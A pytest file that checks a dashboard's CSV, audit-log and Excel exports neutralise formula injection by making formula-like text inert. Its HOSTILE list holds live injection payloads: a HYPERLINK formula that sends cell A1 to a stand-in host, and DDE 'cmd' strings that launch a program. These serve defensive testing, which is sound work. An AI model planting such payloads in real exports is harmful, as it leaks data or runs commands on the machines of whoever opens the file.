"""No export carries a formula (issue 20.2): people's text stays text, numbers stay numbers.

A user name, comment, budget reference or full name typed as ``=HYPERLINK(...)`` once reached
the CSV of a grid as a live formula. Every server export is checked here; the browser's CSV
button in tests/browser/test_grid_exports.py.
"""

from __future__ import annotations

import csv
import io

import openpyxl
import pytest

from dashboard.domain.spreadsheet import FORMULA_STARTS, inert_text, is_formula_like
from dashboard.services.audit import events_csv
from dashboard.services.reports.grid_export import grid_csv, grid_workbook
from dashboard.services.reports.language import Formats
from dashboard.services.reports.tables import Column, Table
from dashboard.services.reports.xlsx import Book

HOSTILE = [
    '=HYPERLINK("http://exemple.test/?q="&A1,"Cliquez ici")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]
COLUMNS = [
    {"field": "name", "header": "Nom complet"},
    {"field": "amount", "header": "Montant (MDH)"},
]


def _csv_rows(content: bytes, delimiter: str) -> list[list[str]]:
    text = content.decode("utf-8").removeprefix("\ufeff")
    return list(csv.reader(io.StringIO(text), delimiter=delimiter))


@pytest.mark.parametrize("text", HOSTILE)
def test_a_formula_gets_an_apostrophe_and_keeps_its_text(text: str) -> None:
    assert is_formula_like(text)
    assert inert_text(text) == "'" + text


@pytest.mark.parametrize("text", ["-5", "+12,5", "-1\u00a0234,5", "12", "CETIA", "", "a=b"])
def test_plain_numbers_and_ordinary_text_are_left_as_they_are(text: str) -> None:
    assert inert_text(text) == text


@pytest.mark.parametrize("text", HOSTILE)
@pytest.mark.parametrize(("lang", "delimiter"), [("fr", ";"), ("en", ","), ("ar", ";")])
def test_the_grid_csv_neutralises_text_and_keeps_numbers(
    text: str, lang: str, delimiter: str
) -> None:
    rows = [{"name": text, "amount": -12.5}, {"name": "-7", "amount": -3}]
    header, first, second = _csv_rows(grid_csv(columns=COLUMNS, rows=rows, lang=lang), delimiter)
    assert header == ["Nom complet", "Montant (MDH)"]
    # A line break is a cut where a spreadsheet splits on the other list separator: what
    # follows it is made inert too (test_csv_other_separator.py).
    assert first[0] == "'" + text.replace("\r=", "\r'=")
    decimal = "." if lang == "en" else ","
    assert first[1] == f"-12{decimal}5"  # a real negative number stays a number
    assert second == ["-7", "-3"]
    assert all(cell[:1] not in FORMULA_STARTS or cell[:1] == "-" for cell in first[1:] + second)


@pytest.mark.parametrize("text", HOSTILE)
def test_the_grid_workbook_writes_text_as_typed_text(text: str) -> None:
    content = grid_workbook(
        columns=COLUMNS, rows=[{"name": text, "amount": -12.5}, {"name": "-7"}], title="Comptes"
    )
    sheet = openpyxl.load_workbook(io.BytesIO(content)).active
    assert sheet is not None
    cell = sheet["A2"]
    # openpyxl leaves a carriage return in Excel's escaped form (Excel reads it back).
    assert cell.data_type == "s" and cell.value.replace("_x000D_", "\r") == text
    assert cell.quotePrefix  # Excel keeps it text even when the cell is edited
    assert sheet["B2"].data_type == "n" and sheet["B2"].value == -12.5
    assert sheet["A3"].value == "-7" and not sheet["A3"].quotePrefix


def test_the_audit_csv_uses_the_same_rule() -> None:
    text = events_csv([{"username": HOSTILE[0], "detail": "-5", "action": HOSTILE[4]}])
    cells = {cell for row in csv.reader(io.StringIO(text), delimiter=";") for cell in row}
    assert {"'" + HOSTILE[0], "'" + HOSTILE[4], "-5"} <= cells


def test_the_excel_report_writes_a_hostile_title_and_note_as_text() -> None:
    stream = io.BytesIO()
    book = Book(stream, Formats("fr"))
    ws = book.sheet("Notes", HOSTILE[0], HOSTILE[1])  # written with ws.write()
    book.note_row(ws, 5, HOSTILE[2])
    table = Table("t", HOSTILE[3], (Column("name", "Nom", "text"),), [{"name": HOSTILE[0]}])
    book.table(ws, 8, table)
    book.wb.close()
    sheet = openpyxl.load_workbook(io.BytesIO(stream.getvalue()))["Notes"]
    cells = [c for row in sheet.iter_rows() for c in row if c.value is not None]
    written = {c.value for c in cells}
    assert set(HOSTILE[:4]) <= written
    assert all(c.data_type == "s" for c in cells if isinstance(c.value, str))


def test_the_grid_workbook_groups_amounts_but_not_years() -> None:
    columns = [{"field": "year", "header": "Année"}, {"field": "amount", "header": "Montant"}]
    content = grid_workbook(columns=columns, rows=[{"year": 2025, "amount": 1234}], title="x")
    sheet = openpyxl.load_workbook(io.BytesIO(content)).active
    assert sheet is not None
    assert sheet["A2"].number_format == "0" and sheet["B2"].number_format == "#,##0"
